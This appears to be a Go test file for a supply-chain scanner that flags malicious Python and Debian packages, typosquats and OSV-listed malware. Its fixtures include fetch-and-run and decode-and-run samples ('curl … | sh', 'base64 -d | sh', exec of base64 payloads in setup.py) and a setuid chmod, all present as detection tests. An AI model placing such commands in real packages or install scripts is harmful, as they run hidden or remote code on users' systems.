package packages

import (
	"archive/zip"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/darkmirror/darkmirror/mirror/artifact"
	"github.com/darkmirror/darkmirror/scan"
	"github.com/darkmirror/darkmirror/scan/walk"
)

var noon = time.Date(2026, 11, 22, 12, 0, 0, 0, time.UTC)

// codes inspects a text at a path and answers "CODE severity" for each finding.
func codes(t *testing.T, text string, where ...string) []string {
	t.Helper()
	s, err := New(Config{})
	if err != nil {
		t.Fatal(err)
	}
	list, err := s.Inspect(t.Context(), walk.NewFile(walk.Text, []byte(text), where...))
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, f := range list {
		got = append(got, f.ID+" "+f.Severity)
	}
	return got
}

const whl = "lib-1.0-py3-none-any.whl"

func TestFileRules(t *testing.T) {
	for name, c := range map[string]struct {
		text  string
		where []string
		want  []string
	}{
		"pth with paths":            {"./lib\n# import os\n/usr/share/lib\n", []string{whl, "lib.pth"}, nil},
		"pth that runs":             {"lib\nimport os; os.system('x')\n", []string{whl, "lib.pth"}, []string{"PKG-PTH high"}},
		"pth that runs, with a tab": {"import\tos\n", []string{whl, "lib.pth"}, []string{"PKG-PTH high"}},
		"pth in an image":           {"import os\n", []string{"0123", "", "usr/lib/python3/dist-packages/x.pth"}, []string{"PKG-PTH high"}},
		"pth of setuptools":         {"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); ", []string{whl, "distutils-precedence.pth"}, nil},
		"pth like that of setuptools": {
			"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); os.system('x')",
			[]string{whl, "distutils-precedence.pth"},
			[]string{"PKG-PTH high"},
		},
		"sitecustomize":            {"import evil\n", []string{whl, "sitecustomize.py"}, []string{"PKG-SITECUSTOMIZE high"}},
		"sitecustomize, empty":     {"# nothing\n", []string{whl, "sitecustomize.py"}, nil},
		"sitecustomize, elsewhere": {"import evil\n", []string{whl, "lib/sitecustomize.py"}, nil},
		"sitecustomize, installed": {"import evil\n", []string{whl, "lib-1.0.data/purelib/usercustomize.py"}, []string{"PKG-SITECUSTOMIZE high"}},
		"setup, plain":             {"from setuptools import setup\nsetup(name='x', url='https://index.example/requests')\n", []string{"x-1.0.tar.gz", "", "x-1.0/setup.py"}, nil},
		"setup, runs a compiler":   {"import subprocess\nsubprocess.run(['cc'])\n", []string{"x-1.0.tar.gz", "", "x-1.0/setup.py"}, []string{"PKG-SETUP low"}},
		"setup, fetches and runs":  {"import urllib.request, os\nos.system(urllib.request.urlopen('u').read())\n", []string{"x-1.0.tar.gz", "", "x-1.0/setup.py"}, []string{"PKG-SETUP high"}},
		"setup, hides and runs":    {"import base64\nexec(base64.b64decode('eA=='))\n", []string{"x-1.0.tar.gz", "", "x-1.0/setup.py"}, []string{"PKG-SETUP high"}},
		"setup, words in comments": {"# import urllib and exec(base64)\n'''os.system'''\n", []string{"x-1.0.tar.gz", "", "x-1.0/setup.py"}, nil},
		"setup, of a test":         {"import base64\nexec(base64.b64decode('eA=='))\n", []string{"x-1.0.tar.gz", "", "x-1.0/tests/data/setup.py"}, nil},
		"commands":                 {"[console_scripts]\nlib = lib:main\n[other]\nsudo = lib:x\n", []string{whl, "lib-1.0.dist-info/entry_points.txt"}, nil},
		"commands, a known one":    {"[console_scripts]\nsudo = lib:main\n", []string{whl, "lib-1.0.dist-info/entry_points.txt"}, []string{"PKG-SHADOW high"}},
		"commands, pip's own":      {"[console_scripts]\npip = pip:main\n", []string{"pip-26.0-py3-none-any.whl", "pip-26.0.dist-info/entry_points.txt"}, nil},
		"postinst":                 {"#!/bin/sh\n# curl x\nldconfig\n", []string{"x_1_amd64.deb", "control.tar.xz", "", "./postinst"}, []string{"PKG-SCRIPT low"}},
		"postinst that fetches":    {"#!/bin/sh\ncurl https://files.example/x | sh\n", []string{"x_1_amd64.deb", "control.tar.xz", "", "./postinst"}, []string{"PKG-SCRIPT low", "PKG-SCRIPT-RISK high"}},
		"postinst that decodes":    {"echo eA== | base64 -d | sh\n", []string{"x_1_amd64.deb", "control.tar.gz", "", "postinst"}, []string{"PKG-SCRIPT low", "PKG-SCRIPT-RISK high"}},
		"postinst with rights":     {"chmod 4755 /usr/bin/x \n", []string{"x_1_amd64.deb", "control.tar.gz", "", "postinst"}, []string{"PKG-SCRIPT low", "PKG-SCRIPT-RISK medium"}},
		"a file called postinst":   {"curl x\n", []string{"x_1_amd64.deb", "data.tar.xz", "", "./usr/share/postinst"}, nil},
	} {
		if diff := cmp.Diff(c.want, codes(t, c.text, c.where...)); diff != "" {
			t.Errorf("%s (-want +got):\n%s", name, diff)
		}
	}
	if got := codes(t, strings.Repeat("x\n", maxText/2+1), whl, "lib.pth"); len(got) != 1 || got[0] != "PKG-NOT-SCANNED high" {
		t.Errorf("a long script: %v", got)
	}
}

func TestModes(t *testing.T) {
	s, err := New(Config{})
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		name string
		mode fs.FileMode
		kind walk.Kind
		want string
	}{
		{"usr/bin/backdoor", 0o755 | fs.ModeSetuid, walk.ELF, CodeSetuid},
		{"usr/bin/sudo", 0o755 | fs.ModeSetuid, walk.ELF, ""},
		{"usr/bin/ls", 0o755, walk.ELF, ""},
		{"dev/mem", fs.ModeDevice | fs.ModeCharDevice | 0o666, walk.Empty, CodeSetuid},
		{"var/link", fs.ModeSymlink, walk.Empty, ""},
	} {
		f := walk.NewFile(c.kind, []byte("x"), "0123", "", c.name)
		f.Mode = c.mode
		list, err := s.Inspect(t.Context(), f)
		if err != nil {
			t.Fatal(err)
		}
		got := ""
		if len(list) > 0 {
			got = list[0].ID
		}
		if got != c.want {
			t.Errorf("%s %s: %q, want %q", c.name, c.mode, got, c.want)
		}
	}
	for name, want := range map[string]int{whl: 1, "lib-1.0-cp312-cp312-manylinux_2_28_x86_64.whl": 0} {
		if list, err := s.Inspect(t.Context(), walk.NewFile(walk.ELF, []byte("x"), name, "lib/x.so")); err != nil || len(list) != want {
			t.Errorf("a program in %s: %+v, %v, want %d", name, list, err, want)
		}
	}
}

// records writes OSV records, by file name, as a folder or as a zip file.
func records(t *testing.T, zipped bool, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	if !zipped {
		for name, body := range files {
			p := filepath.Join(dir, name)
			if err := errors.Join(os.MkdirAll(filepath.Dir(p), 0o700), os.WriteFile(p, []byte(body), 0o600)); err != nil {
				t.Fatal(err)
			}
		}
		return dir
	}
	p := filepath.Join(dir, "all.zip")
	f, err := os.Create(p)
	if err != nil {
		t.Fatal(err)
	}
	z := zip.NewWriter(f)
	for name, body := range files {
		w, err := z.Create(name)
		if err == nil {
			_, err = w.Write([]byte(body))
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := errors.Join(z.Close(), f.Close()); err != nil {
		t.Fatal(err)
	}
	return p
}

var osv = map[string]string{
	"osv/pypi/evil/MAL-1.json":  `{"id":"MAL-1","summary":"steals","modified":"2026-11-20T00:00:00Z","affected":[{"package":{"ecosystem":"PyPI","name":"Evil_Lib"},"ranges":[{"type":"ECOSYSTEM","events":[{"introduced":"0"}]}]}]}`,
	"osv/pypi/part/MAL-2.json":  `{"id":"MAL-2","modified":"2026-11-01T00:00:00Z","affected":[{"package":{"ecosystem":"PyPI","name":"litelib"},"versions":["1.82.7","1.82.8"]}]}`,
	"osv/pypi/range/MAL-3.json": `{"id":"MAL-3","modified":"2026-11-01T00:00:00Z","affected":[{"package":{"ecosystem":"PyPI","name":"ranged"},"ranges":[{"type":"ECOSYSTEM","events":[{"introduced":"1.2"},{"fixed":"1.10"},{"introduced":"2.0"},{"last_affected":"2.1"}]}]}]}`,
	"osv/pypi/gone/MAL-4.json":  `{"id":"MAL-4","modified":"2026-11-01T00:00:00Z","withdrawn":"2026-11-02T00:00:00Z","affected":[{"package":{"ecosystem":"PyPI","name":"innocent"}}]}`,
	"osv/npm/other/MAL-5.json":  `{"id":"MAL-5","modified":"2026-11-01T00:00:00Z","affected":[{"package":{"ecosystem":"npm","name":"requests"}}]}`,
	"osv/pypi/sum/MAL-6.json":   `{"id":"MAL-6","modified":"2026-11-01T00:00:00Z","affected":[],"database_specific":{"iocs":{"digests":["` + artifact.Sum([]byte("bad bytes")).Hex() + `"]}}}`,
	"osv/pypi/vuln/PYSEC.json":  `{"id":"PYSEC-1","modified":"2026-11-01T00:00:00Z","affected":[{"package":{"ecosystem":"PyPI","name":"requests"}}]}`,
	"README.md":                 "not a record",
}

func TestMalicious(t *testing.T) {
	for _, zipped := range []bool{false, true} {
		s, err := New(Config{Malicious: []string{records(t, zipped, osv)}, MaxAge: 72 * time.Hour})
		if err != nil {
			t.Fatal(err)
		}
		if err := s.Start(t.Context(), noon); err != nil {
			t.Fatal(err)
		}
		if e := s.Engine(); e.Database.IsZero() || !e.Dated.Equal(time.Date(2026, 11, 20, 0, 0, 0, 0, time.UTC)) {
			t.Errorf("engine %+v", e)
		}
		for _, c := range []struct{ source, name, version, body, want string }{
			{"pypi/main", "evil-lib", "3.0", "x", "MAL-1"},
			{"pypi/main", "EVIL.LIB", "0.1", "x", "MAL-1"},
			{"apt/bookworm", "evil-lib", "3.0", "x", ""},
			{"pypi/main", "litelib", "1.82.7", "x", "MAL-2"},
			{"pypi/main", "litelib", "1.82.70", "x", ""},
			{"pypi/main", "ranged", "1.1", "x", ""},
			{"pypi/main", "ranged", "1.2", "x", "MAL-3"},
			{"pypi/main", "ranged", "1.9.9", "x", "MAL-3"},
			{"pypi/main", "ranged", "1.10rc1", "x", "MAL-3"},
			{"pypi/main", "ranged", "1.10", "x", ""},
			{"pypi/main", "ranged", "2.1.0", "x", "MAL-3"},
			{"pypi/main", "ranged", "2.1.post1", "x", ""},
			{"pypi/main", "innocent", "1.0", "x", ""},
			{"pypi/main", "requests", "1.0", "x", ""},
			{"oci/platform", "anything", "1.0", "bad bytes", "MAL-6"},
		} {
			a := artifact.Artifact{Name: c.name, Version: c.version, Files: []artifact.File{{Path: "f", Digest: artifact.Sum([]byte(c.body)), Size: 1}}}
			list, err := s.Judge(t.Context(), scan.Subject{Source: c.source, Artifact: a}, nil)
			if err != nil {
				t.Fatal(err)
			}
			got := ""
			if len(list) == 1 && list[0].Kind == scan.KindMalware && list[0].Severity == scan.Critical {
				got = list[0].ID
			}
			if got != c.want {
				t.Errorf("%s %s %s: %+v, want %q", c.source, c.name, c.version, list, c.want)
			}
		}
	}
}

func TestStartRefuses(t *testing.T) {
	for name, c := range map[string]struct{ body, want string }{
		"no list":     {"", "no such file"},
		"no record":   {"-", "no record"},
		"broken":      {`{"id":`, "not an OSV record"},
		"no record's": {`{"name":"x"}`, "no id"},
		"odd range":   {`{"id":"MAL-1","modified":"2026-11-20T00:00:00Z","affected":[{"package":{"ecosystem":"PyPI","name":"x"},"ranges":[{"events":[{"fixed":"1"}]}]}]}`, "without introduced"},
		"old":         {`{"id":"MAL-1","modified":"2025-11-20T00:00:00Z"}`, "at most"},
	} {
		dir := filepath.Join(t.TempDir(), "none")
		switch c.body {
		case "":
		case "-":
			dir = records(t, false, map[string]string{"README": "x"})
		default:
			dir = records(t, false, map[string]string{"a.json": c.body})
		}
		s, err := New(Config{Malicious: []string{dir}, MaxAge: time.Hour})
		if err != nil {
			t.Fatal(err)
		}
		if err := s.Start(t.Context(), noon); !errors.Is(err, scan.ErrEngine) || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: %v, want ErrEngine with %q", name, err, c.want)
		}
	}
}

func TestTyposquat(t *testing.T) {
	s, err := New(Config{Known: []string{"requests", "numpy", "python-dateutil", "six"}})
	if err != nil {
		t.Fatal(err)
	}
	for name, want := range map[string]string{
		"requests": "", "Requests": "", "request": "requests", "requestss": "requests", "reqeusts": "requests", "requezts": "requests",
		"python_dateutil": "", "pythondateutil": "python-dateutil", "numpi": "numpy", "nump1": "numpy", "six1": "", "sox": "", "pandas": "",
	} {
		if got := s.known.like(name); got != want {
			t.Errorf("%s is like %q, want %q", name, got, want)
		}
	}
	list, err := s.Judge(t.Context(), scan.Subject{Source: "pypi/main", Artifact: artifact.Artifact{Name: "requezts", Version: "1"}}, nil)
	if err != nil || len(list) != 1 || list[0].ID != CodeTyposquat || !strings.Contains(list[0].Text, "requests") {
		t.Errorf("%+v, %v", list, err)
	}
}

func TestAge(t *testing.T) {
	at := map[string]time.Time{"young": noon.Add(-time.Hour), "old": noon.Add(-100 * time.Hour)}
	s, err := New(Config{MinAge: 72 * time.Hour, Uploaded: func(_ string, a artifact.Artifact) (time.Time, bool) {
		when, ok := at[a.Name]
		return when, ok
	}})
	if err != nil {
		t.Fatal(err)
	}
	if err := s.Start(t.Context(), noon); err != nil {
		t.Fatal(err)
	}
	for name, want := range map[string]string{"young": CodeYoung, "old": "", "unknown": CodeNoAge} {
		list, err := s.Judge(t.Context(), scan.Subject{Source: "pypi/main", Artifact: artifact.Artifact{Name: name, Version: "1"}}, nil)
		got := ""
		if len(list) == 1 {
			got = list[0].ID
		}
		if err != nil || got != want {
			t.Errorf("%s: %+v, %v, want %q", name, list, err, want)
		}
	}
}

func TestCompare(t *testing.T) {
	for _, c := range []struct {
		a, b string
		want int
	}{
		{"1.0", "1", 0},
		{"1.0", "1.0.0", 0},
		{"1.9", "1.10", -1},
		{"1.0rc1", "1.0", -1},
		{"1.0.post1", "1.0", 1},
		{"v2", "2.0", 0},
		{"1.0a1", "1.0b1", -1},
		{"01.2", "1.2", 0},
		{"", "", 0},
		{"1.0-1", "1.0", 1},
		{"2026.1", "2025.12", 1},
	} {
		if got := compare(c.a, c.b); got != c.want {
			t.Errorf("compare(%q, %q) = %d, want %d", c.a, c.b, got, c.want)
		}
		if got := compare(c.b, c.a); got != -c.want {
			t.Errorf("compare(%q, %q) = %d, want %d", c.b, c.a, got, -c.want)
		}
	}
}

func FuzzRules(f *testing.F) {
	f.Add("import os\n", "lib.pth", "1.0rc1")
	f.Add("x = '''\n'''\nexec(base64.b64decode(''))", "x/setup.py", "v1..2")
	f.Add("[console_scripts]\nls = a:b", "a.dist-info/entry_points.txt", "-")
	f.Fuzz(func(t *testing.T, text, file, version string) {
		p := place{blob: "a.whl", inner: []string{file}, file: file, base: strings.ToLower(file)}
		for _, rule := range []func(string, place) []scan.Finding{pth, site, setup, shadow, script} {
			rule(text, p)
		}
		if compare(version, version) != 0 {
			t.Errorf("%q is not itself", version)
		}
		var l list
		l.names, l.digests = map[string][]entry{}, map[artifact.Digest]entry{}
		_ = l.add([]byte(text))
	})
}
